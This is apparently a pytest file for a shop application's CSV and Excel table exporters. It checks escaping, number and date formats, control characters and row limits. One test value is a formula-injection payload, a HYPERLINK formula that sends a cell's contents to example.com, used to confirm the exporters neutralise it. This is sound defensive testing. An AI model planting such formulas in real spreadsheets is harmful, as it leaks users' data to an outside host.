"""Tables as CSV and as workbooks, read back with the standard reader, with openpyxl, and part by part."""

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from itertools import repeat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.reader.excel import load_workbook

from shopdesk.documents import xlsx_table
from shopdesk.documents.csv_table import read_csv, write_csv
from shopdesk.documents.tables import Amount, Cell, Row, Table, Written
from shopdesk.documents.xlsx_table import write_xlsx
from shopdesk.domain.errors import PaperError

AT = datetime(2026, 6, 12, 8, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"Refund")'
DAY, PLACED = datetime.fromisoformat("2026-06-12"), datetime.fromisoformat("2026-06-12 14:30")
ROWS: Sequence[Row] = (
    ("#1001", HOSTILE, Amount(2490, "EUR"), "EUR", date(2026, 6, 12), PLACED, 3),
    ("0012", "+49 30 1234567", Amount(-500, "EUR"), "EUR", None, None, -3),
    ("三日月", 'He said "no",\r\nthen left; -1', Amount(1200, "JPY"), "JPY", date(1899, 1, 1), None, 0),
    ("#N/A", "", Amount(1234567, "KWD"), "KWD", None, None, None),
)
HEADS = ("Number", "Text", "Total", "Currency", "Day", "Placed (Europe/Berlin)", "Pieces")


def table(heads: tuple[str, ...] = HEADS) -> Table:
    return Table(title="Orders: 2026/06", heads=heads, by="Luna Atelier", at=AT)


def as_csv(rows: Sequence[Row], heads: tuple[str, ...] = HEADS) -> bytes:
    out = io.BytesIO()
    assert write_csv(table(heads), rows, out) == Written(len(rows))
    return out.getvalue()


def as_book(rows: Sequence[Row], heads: tuple[str, ...] = HEADS) -> tuple[Any, Written, bytes]:
    out = io.BytesIO()
    written = write_xlsx(table(heads), rows, out)
    return load_workbook(out).active, written, out.getvalue()


def test_csv_is_what_other_programs_read() -> None:
    content = as_csv(ROWS)
    assert content.startswith(b"\xef\xbb\xbfNumber,Text,Total,Currency,Day,Placed (Europe/Berlin),Pieces\r\n")
    told = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    assert told[1] == ["#1001", "'" + HOSTILE, "24.90", "EUR", "2026-06-12", "2026-06-12 14:30:00", "3"]
    assert told[2] == ["0012", "'+49 30 1234567", "-5.00", "EUR", "", "", "-3"]
    assert told[3][2:5] == ["1200", "JPY", "1899-01-01"]
    assert told[4][2] == "1234.567"


def test_our_own_reader_gives_back_what_was_written() -> None:
    heads, *rows = read_csv(as_csv(ROWS))
    assert tuple(heads) == HEADS
    assert [row[1] for row in rows] == [HOSTILE, "+49 30 1234567", 'He said "no",\r\nthen left; -1', ""]
    assert rows[1][2] == "-5.00"


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=4))
def test_any_texts_are_read_back_unchanged(rows: list[list[str]]) -> None:
    assert read_csv(as_csv(rows, ("=a", "b"))) == [["=a", "b"], *rows]


def test_a_text_longer_than_the_standard_reader_takes_is_read_back() -> None:
    before = csv.field_size_limit()
    assert read_csv(as_csv([("x" * 500_000,)], ("a",)))[1] == ["x" * 500_000]
    assert csv.field_size_limit() == before


def test_a_workbook_holds_real_numbers_days_and_texts_that_are_no_formulas() -> None:
    sheet, written, _ = as_book(ROWS)
    assert written == Written(4)
    assert sheet.title == "Orders  2026 06"
    first, second, third, fourth = sheet.iter_rows(min_row=2)
    assert [cell.data_type for cell in first] == ["s", "s", "n", "s", "d", "d", "n"]
    assert [cell.value for cell in first] == [
        "#1001", HOSTILE, 24.9, "EUR", DAY, PLACED, 3,
    ]  # fmt: skip
    assert [cell.number_format for cell in first][2:6:2] == ["#,##0.00", "yyyy-mm-dd"]
    assert first[5].number_format == "yyyy-mm-dd hh:mm"
    assert [cell.value for cell in second] == ["0012", "+49 30 1234567", -5, "EUR", None, None, -3]
    assert (third[2].value, third[2].number_format, third[4].value) == (1200, "#,##0", "1899-01-01")
    assert (third[1].value, third[1].data_type) == ('He said "no",\nthen left; -1', "s")
    assert (fourth[0].value, fourth[0].data_type) == ("#N/A", "s")
    assert (fourth[2].value, fourth[2].number_format) == (1234.567, "#,##0.000")


def test_a_workbook_has_a_bold_head_that_stays_filters_and_widths_that_fit() -> None:
    sheet, _, content = as_book(ROWS)
    assert [cell.value for cell in sheet[1]] == list(HEADS)
    assert all(cell.font.bold and cell.data_type == "s" for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G5"
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFG"]
    assert widths[1] == len(HOSTILE) + 2
    assert widths[6] == 10
    assert widths[5] == len(HEADS[5]) + 2
    properties = load_workbook(io.BytesIO(content)).properties
    assert (properties.creator, properties.created) == ("Luna Atelier", AT.replace(tzinfo=None))


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_no_text_is_a_formula_and_all_of_it_is_there_but_control_characters(texts: list[str]) -> None:
    sheet, written, content = as_book([(text,) for text in texts], ("Text",))
    refused = xlsx_table._REFUSED
    assert written.left_out == sum(len(refused.findall(text)) for text in texts)
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(texts) + 1, max_col=1)]
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s"}
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        ET.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own


def test_control_characters_are_left_out_and_counted_and_too_long_texts_cut_and_counted() -> None:
    sheet, written, _ = as_book([("a\x00b\x1fc\ufffe", "x" * 40_000)], ("A", "B"))
    assert written == Written(1, left_out=3, cut=1)
    assert sheet["A2"].value == "abc"
    assert len(sheet["B2"].value) == 32_767


def test_emoji_take_two_of_the_characters_that_a_cell_holds() -> None:
    sheet, written, _ = as_book([("\N{GRINNING FACE}" * 20_000, "\N{GRINNING FACE}" * 16_383)], ("A", "B"))
    assert written == Written(1, cut=1)
    assert sheet["A2"].value == sheet["B2"].value == "\N{GRINNING FACE}" * 16_383


def test_a_text_that_looks_like_an_escape_is_shown_as_it_is() -> None:
    _, _, content = as_book([("_x0041_ and _x004",)], ("A",))
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert b"_x005F_x0041_ and _x004<" in book.read("xl/worksheets/sheet1.xml")


def test_more_rows_than_a_sheet_has_are_refused_with_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_table, "MOST_ROWS", 501)
    as_book([("x",)] * 500, ("A",))
    with pytest.raises(PaperError, match=r"holds 500 rows below its head.*CSV"):
        as_book([("x",)] * 501, ("A",))
    with pytest.raises(PaperError):
        xlsx_table.refuse_too_long(501)
    xlsx_table.refuse_too_long(500)


def test_nothing_lies_about_afterwards_also_where_rows_could_not_be_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def broken() -> Any:
        yield from repeat(("x",), 300)
        msg = "the rows end"
        raise RuntimeError(msg)

    write_xlsx(table(("A",)), [("x",)], io.BytesIO())
    with pytest.raises(RuntimeError):
        write_xlsx(table(("A",)), broken(), io.BytesIO())
    assert list(tmp_path.iterdir()) == []


def test_an_empty_list_is_a_head_alone() -> None:
    assert as_csv([]).count(b"\r\n") == 1
    sheet, written, _ = as_book([])
    assert (written.rows, sheet.max_row, sheet.auto_filter.ref) == (0, 1, "A1:G1")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not on this computer")
def test_a_second_program_reads_the_workbook_alike(tmp_path: Path) -> None:
    (tmp_path / "list.xlsx").write_bytes(as_book(ROWS)[2])
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(tmp_path / "list.xlsx")],  # noqa: S607
        check=True,
        capture_output=True,
        timeout=120,
    )
    told = list(csv.reader((tmp_path / "list.csv").read_text(encoding="utf-8").splitlines()))
    assert told[1][:2] == ["#1001", HOSTILE]


def test_a_cell_is_one_of_the_kinds_that_tables_have() -> None:
    cells: list[Cell] = [None, "", "x", 1, Amount(1, "EUR"), date(2026, 1, 1), datetime.fromisoformat("2026-01-01")]
    assert read_csv(as_csv([cells], tuple("abcdefg")))[1] == [
        "", "", "x", "1", "0.01", "2026-01-01", "2026-01-01 00:00:00",
    ]  # fmt: skip
